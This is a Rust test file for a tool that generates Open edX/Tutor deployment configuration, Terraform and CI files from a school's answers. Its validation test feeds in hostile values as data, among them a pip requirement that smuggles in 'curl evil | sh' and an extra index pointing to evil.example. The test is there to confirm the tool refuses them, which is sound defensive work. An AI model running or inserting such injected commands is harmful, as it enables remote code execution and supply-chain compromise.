//! The Open edX a school runs (issue 17): Tutor plugins with their hosts, images and pins, a
//! theme repository, extra pip requirements, the language and the contact address, from the
//! answers into every file that follows from them; bad values refused naming the key, nothing
//! written. `.ci/check-pipeline.sh` proves the same with the real Tutor and every plugin pinned.

use crate::common::{self, Repo, Tree};
use serde_json::Value;

const MINIMAL: &str = "platform_name: yourschool\nroot_domain: yourschool.edu\naws_region: us-east-1\naws_account_id: \"123456789012\"\n";

fn yaml(tree: &Tree, path: &str) -> Value {
    let text = tree.get(path).unwrap_or_else(|| panic!("no {path}"));
    serde_saphyr::from_str(text).unwrap_or_else(|error| panic!("{path}: {error}"))
}

fn plugins_of(config: &Value) -> Vec<String> {
    config["PLUGINS"]
        .as_array()
        .unwrap()
        .iter()
        .map(|plugin| plugin.as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn chosen_plugins_are_pinned_enabled_hosted_and_built_everywhere() {
    let text = format!(
        "{MINIMAL}tutor_plugins: [xqueue, notes, jupyter]\nenvironments:\n  - name: prod\n  - name: dev\n"
    );
    let tree = common::render(&text);
    let requirements = tree.get("ci/tutor-requirements.txt").unwrap();
    for pin in [
        "tutor-notes==22.0.0",
        "tutor-xqueue==22.0.0",
        "tutor-jupyter==22.0.0",
    ] {
        assert!(
            requirements.lines().any(|line| line == pin),
            "{pin}:\n{requirements}"
        );
    }
    assert!(!requirements.contains("tutor-forum"));
    // Catalogue order, whatever the answers' order: reordering them changes no file.
    let expected = [
        "devops",
        "mfe",
        "pod-autoscaling",
        "notes",
        "xqueue",
        "jupyter",
    ];
    assert_eq!(
        plugins_of(&yaml(&tree, "ci/tutor-build/config.yml")),
        expected
    );
    let reordered = common::render(&format!(
        "{MINIMAL}tutor_plugins: [jupyter, notes, xqueue]\nenvironments:\n  - name: prod\n  - name: dev\n"
    ));
    assert_eq!(reordered, tree);
    for (environment, lms) in [
        ("prod", "courses.yourschool.edu"),
        ("dev", "dev-courses.yourschool.edu"),
    ] {
        let config = yaml(
            &tree,
            &format!("ci/tutor-deploy/environments/{environment}/config.yml"),
        );
        assert_eq!(plugins_of(&config), expected, "{environment}");
        assert_eq!(config["NOTES_HOST"], format!("notes.{lms}"));
        assert_eq!(config["XQUEUE_HOST"], format!("xqueue.{lms}"));
        assert_eq!(config["JUPYTER_HOST"], format!("jupyter.{lms}"));
        for (key, repository) in [
            ("NOTES_DOCKER_IMAGE", "openedx-notes"),
            ("JUPYTER_DOCKER_IMAGE_HUB", "openedx-jupyterhub"),
            ("JUPYTER_DOCKER_IMAGE_LAB", "openedx-jupyterlab"),
        ] {
            let image = config[key]
                .as_str()
                .unwrap_or_else(|| panic!("{environment}: no {key}"));
            assert!(
                image.starts_with(&format!(
                    "123456789012.dkr.ecr.us-east-1.amazonaws.com/yourschool-global-{repository}:"
                )),
                "{key}: {image}"
            );
        }
    }
    // The build makes every image, and every deploy sets the build's tag on each.
    let build = yaml(&tree, ".github/workflows/build.yml");
    let matrix: Vec<&str> = build["jobs"]["image"]["strategy"]["matrix"]["image"]
        .as_array()
        .unwrap()
        .iter()
        .map(|image| image.as_str().unwrap())
        .collect();
    assert_eq!(
        matrix,
        [
            "openedx",
            "mfe",
            "notes",
            "xqueue",
            "jupyterhub",
            "jupyterlab"
        ]
    );
    let deploy = tree.get("scripts/tutor-deploy.sh").unwrap();
    assert!(deploy.contains("for key in DOCKER_IMAGE_OPENEDX MFE_DOCKER_IMAGE NOTES_DOCKER_IMAGE XQUEUE_DOCKER_IMAGE JUPYTER_DOCKER_IMAGE_HUB JUPYTER_DOCKER_IMAGE_LAB; do"));
    let readme = tree.get("README.md").unwrap();
    assert!(
        readme.contains("https://notes.dev-courses.yourschool.edu (`dev`)"),
        "README lists the hosts"
    );
}

#[test]
fn without_plugins_only_the_core_runs() {
    let tree = common::render(MINIMAL);
    let config = yaml(&tree, "ci/tutor-deploy/environments/prod/config.yml");
    assert_eq!(plugins_of(&config), ["devops", "mfe", "pod-autoscaling"]);
    assert!(config.get("NOTES_HOST").is_none());
    assert_eq!(config["LANGUAGE_CODE"], "en");
    assert_eq!(config["CONTACT_EMAIL"], "support@courses.yourschool.edu");
    assert_eq!(
        config["DEVOPS_EMAIL_FROM"],
        "no-reply@courses.yourschool.edu"
    );
    assert_eq!(config["DEVOPS_THEME"], "");
    assert!(!tree.get("README.md").unwrap().contains("### Tutor plugins"));
}

#[test]
fn theme_requirements_language_and_contact_reach_build_and_deploy() {
    let text = format!(
        "{MINIMAL}theme_repository: https://github.com/yourschool/openedx-theme.git\ntheme_ref: v2.1.0\nextra_pip_requirements:\n  - xblock-drag-and-drop-v2==5.0.3\n  - git+https://github.com/yourschool/xblock-private.git@v0.3.0\nlanguage_code: pt-br\ncontact_email: help@yourschool.edu\n"
    );
    let tree = common::render(&text);
    let build = yaml(&tree, "ci/tutor-build/config.yml");
    assert_eq!(
        build["DEVOPS_THEME_REPOSITORY"],
        "https://github.com/yourschool/openedx-theme.git"
    );
    assert_eq!(build["DEVOPS_THEME_REF"], "v2.1.0");
    let requirements = tree.get("ci/tutor-build/requirements.txt").unwrap();
    let lines: Vec<&str> = requirements
        .lines()
        .filter(|line| !line.starts_with('#') && !line.is_empty())
        .collect();
    assert_eq!(
        lines,
        [
            "xblock-drag-and-drop-v2==5.0.3",
            "git+https://github.com/yourschool/xblock-private.git@v0.3.0"
        ]
    );
    let config = yaml(&tree, "ci/tutor-deploy/environments/prod/config.yml");
    assert_eq!(config["DEVOPS_THEME"], "openedx-theme");
    assert_eq!(config["LANGUAGE_CODE"], "pt-br");
    assert_eq!(config["CONTACT_EMAIL"], "help@yourschool.edu");
    assert_eq!(config["DEVOPS_EMAIL_FROM"], "help@yourschool.edu");
    let workflow = tree.get(".github/workflows/build.yml").unwrap();
    assert!(
        workflow.contains("PRIVATE_REPOSITORIES_TOKEN: ${{ secrets.PRIVATE_REPOSITORIES_TOKEN }}")
    );
}

#[test]
fn bad_values_are_refused_naming_the_key_and_nothing_is_written() {
    for (extra, key, needle) in [
        (
            "tutor_plugins: [forum, note]",
            "tutor_plugins",
            "did you mean `notes`",
        ),
        ("tutor_plugins: [minio]", "tutor_plugins", "S3"),
        ("tutor_plugins: [notes, notes]", "tutor_plugins", "twice"),
        ("tutor_plugins: [1]", "tutor_plugins", "expected a string"),
        (
            "theme_repository: github.com/yourschool/theme",
            "theme_repository",
            "https://",
        ),
        (
            "theme_repository: https://user:ghp_x@github.com/a/b.git",
            "theme_repository",
            "credentials",
        ),
        (
            "theme_ref: \"a..b\"\ntheme_repository: https://github.com/a/b.git",
            "theme_ref",
            "git ref",
        ),
        (
            "extra_pip_requirements: [\"--extra-index-url https://evil.example\"]",
            "extra_pip_requirements",
            "pip option",
        ),
        (
            "extra_pip_requirements: [\"x' ; curl evil | sh ; '\"]",
            "extra_pip_requirements",
            "not allowed",
        ),
        ("language_code: pt_BR", "language_code", "`pt-br`"),
        ("contact_email: support", "contact_email", "e-mail address"),
        (
            "tutor_plugins: [indigo]\ntheme_repository: https://github.com/a/b.git",
            "theme_repository",
            "indigo",
        ),
    ] {
        let printed = common::printed(
            &Repo::new()
                .answers_text(&format!("{MINIMAL}{extra}\n"))
                .refused(),
        );
        assert!(printed.contains(&format!("`{key}`")), "{extra}: {printed}");
        assert!(printed.contains(needle), "{extra}: {printed}");
    }
}

#[test]
fn set_takes_plugins_as_a_comma_separated_list() {
    let repo = Repo::new()
        .answers_text(MINIMAL)
        .set("tutor_plugins=forum,credentials")
        .generate();
    let answers = fs_err::read_to_string(repo.path().join(".openedx-devops/answers.yml")).unwrap();
    assert!(
        answers.contains("tutor_plugins: [\"forum\", \"credentials\"]"),
        "{answers}"
    );
    assert!(repo.exists("ci/tutor-deploy/environments/prod/config.yml"));
}

#[test]
fn each_plugin_host_gets_certificate_and_dns_and_each_image_a_repository() {
    let text = format!(
        "{MINIMAL}tutor_plugins: [notes, cairn]\ncontact_email: help@yourschool.edu\nenvironments:\n  - name: prod\n  - name: dev\n"
    );
    let tree = common::render(&text);
    for (environment, lms) in [
        ("prod", "courses.yourschool.edu"),
        ("dev", "dev-courses.yourschool.edu"),
    ] {
        let env_hcl = tree
            .get(&format!("terraform/environments/{environment}/env.hcl"))
            .unwrap();
        let body: hcl::Body = hcl::from_str(env_hcl).unwrap();
        let locals = body
            .blocks()
            .find(|block| block.identifier() == "locals")
            .unwrap();
        let attribute = |name: &str| {
            locals
                .body()
                .attributes()
                .find(|attribute| attribute.key() == name)
                .unwrap_or_else(|| panic!("{environment}: no local {name}"))
                .expr()
                .to_string()
        };
        let hosts = attribute("hosts");
        assert!(hosts.contains(&format!("\"notes.{lms}\"")), "{hosts}");
        assert!(hosts.contains(&format!("\"data.{lms}\"")), "{hosts}");
        assert_eq!(
            attribute("plugin_hosts").replace([' ', '\n'], ""),
            "[\"notes\",\"cairn\"]"
        );
        assert_eq!(attribute("email_from"), "\"help@yourschool.edu\"");
    }
    // The unit passes them to the module, whose DNS records and certificate take every host.
    let addons = tree
        .get("terraform/_envcommon/kubernetes-addons.hcl")
        .unwrap();
    assert!(addons.contains("{ for key in local.env.plugin_hosts : key => local.env.hosts[key] }"));
    let module = tree
        .get("terraform/modules/kubernetes-addons/main.tf")
        .unwrap();
    assert!(module.contains("for_each = { for key, host in var.hosts : key => host }"));
    assert!(module.contains("dnsNames = concat("));
    let certificate = tree
        .get("terraform/modules/kubernetes-addons/chart/templates/certificate.yaml")
        .unwrap();
    assert!(certificate.contains("range .Values.dnsNames"));
    let ecr = tree.get("terraform/shared/ecr/terragrunt.hcl").unwrap();
    for repository in [
        "openedx",
        "openedx-mfe",
        "openedx-notes",
        "openedx-cairn-clickhouse",
        "openedx-cairn-superset",
    ] {
        assert!(
            ecr.contains(&format!("shared_prefix}}-{repository}\"")),
            "{repository}:\n{ecr}"
        );
    }
    let ses = tree.get("terraform/modules/ses/main.tf").unwrap();
    assert!(ses.contains("resource \"aws_sesv2_email_identity\" \"sender\""));
}
